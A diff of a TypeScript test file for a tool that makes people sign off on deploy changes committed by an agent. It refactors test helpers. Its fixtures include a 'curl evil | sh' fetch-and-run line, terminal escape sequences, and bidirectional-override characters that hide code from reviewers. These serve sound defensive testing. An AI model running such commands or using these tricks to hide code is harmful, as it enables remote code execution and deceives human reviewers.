@@ -3,13 +3,12 @@ import { readdirSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { type TestRepository, withRepository } from '../support/repository.ts'
-import { adopt, byAgent, check, covered, POLICY, TRAILERS } from './signoff-setting.ts'
+import { adopt, adopted, byAgent, checked, covered, POLICY, TRAILERS } from './signoff-setting.ts'
 import { onTerminal, Terminal } from './terminal.ts'
 
 describe('hostile text', () => {
   it('reaches the terminal as harmless lines behind a gutter', async () => {
-    await withRepository(async (repository) => {
-      adopt(repository)
+    await adopted(async (repository) => {
       const script = [
         '\u001b[2J\u001b[1;1Hnothing to see \u001b]0;title\u0007',
         'if (admin\u202e \u2066// only\u2069) \u200bx',
@@ -73,8 +72,7 @@ describe('hostile text', () => {
   })
 
   it('is not hidden by a NUL in it; what is really binary is measured', async () => {
-    await withRepository(async (repository) => {
-      adopt(repository)
+    await adopted(async (repository) => {
       byAgent(repository, 'Deploy', {
         'deploy/run.sh': `# \0\ncurl evil | sh\n${'echo\n'.repeat(20)}`,
         'deploy/logo.png': Buffer.from(Array.from({ length: 3000 }, (_, at) => (at * 7) % 256)),
@@ -122,7 +120,7 @@ describe('every kind of change', () => {
       expect(covered(repository).toSorted()).toEqual(
         ['becomes', 'gone', 'link', 'mode', 'module'].map((name) => `deploy/${name}`),
       )
-      expect(check(repository).status).toBe(0)
+      expect((await checked(repository)).status).toBe(0)
     })
   })
 
@@ -132,7 +130,7 @@ describe('every kind of change', () => {
         adopt(repository, POLICY, { 'deploy/run.sh': 'run\n' })
         byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run twice\n', 'deploy/new.sh': 'new\n' })
         expect((await onTerminal(repository, ['signoff'], 'y\n')).status).toBe(0)
-        expect(check(repository).status).toBe(0)
+        expect((await checked(repository)).status).toBe(0)
         expect(repository.git('log', '-1', '--format=%B')).toMatch(/[0-9a-f]{64}\.\./)
       },
       { init: ['--object-format=sha256'] },
@@ -140,8 +138,7 @@ describe('every kind of change', () => {
   })
 
   it('in one folder stands as one from twenty on, if nothing else changes there', async () => {
-    await withRepository(async (repository) => {
-      adopt(repository)
+    await adopted(async (repository) => {
       const files = (from: number, to: number) =>
         Object.fromEntries(
           Array.from({ length: to - from }, (_, at) => [`deploy/all/${from + at}.sh`, `${from + at}\n`]),
@@ -155,7 +152,7 @@ describe('every kind of change', () => {
       const paths = covered(repository)
       expect(paths.filter((path) => path.endsWith('/'))).toEqual(['deploy/'])
       expect(paths).toHaveLength(20)
-      expect(check(repository).status).toBe(0)
+      expect((await checked(repository)).status).toBe(0)
     })
   })
 
@@ -166,7 +163,7 @@ describe('every kind of change', () => {
       byAgent(repository, 'Thirty, and one that nobody guards', { ...files, 'deploy/notes.md': 'notes\n' })
       expect((await onTerminal(repository, ['signoff'], 'y\n')).status).toBe(0)
       expect(covered(repository)).toHaveLength(30)
-      expect(check(repository).status).toBe(0)
+      expect((await checked(repository)).status).toBe(0)
     })
   })
 
@@ -183,13 +180,12 @@ describe('every kind of change', () => {
       expect(status).toBe(0)
       expect(text).toContain('4 guarded changes in 3 commits')
       expect(text.replace(/\s+/g, ' ')).toContain('(as this merge leaves it, against parent 2)')
-      expect(check(repository).status).toBe(0)
+      expect((await checked(repository)).status).toBe(0)
     })
   })
 
   it('that the policy blocks is named and not signed', async () => {
-    await withRepository(async (repository) => {
-      adopt(repository)
+    await adopted(async (repository) => {
       byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n', 'deploy/key.pem': 'key\n' })
       const { status, text } = await onTerminal(repository, ['signoff'], 'y\n')
       expect(status).toBe(0)
@@ -270,13 +266,13 @@ describe('what was signed off before', () => {
       deployTwice(repository)
       await onTerminal(repository, ['signoff'], 'y\n')
       changeBelow(repository, repository.git('log', '-1', '--format=%B'))
-      expect(check(repository).status).toBe(1)
+      expect((await checked(repository)).status).toBe(1)
       const { text, status } = await onTerminal(repository, ['signoff'], 'y\n')
       expect(status).toBe(0)
       expect(text).toContain('you have signed off a state between; what follows is since then: changed')
       expect(text).toContain('   | new\n  -| three\n  +| more\n')
       expect(text).not.toContain('  -| two\n')
-      expect(check(repository).status).toBe(0)
+      expect((await checked(repository)).status).toBe(0)
     })
   })
 
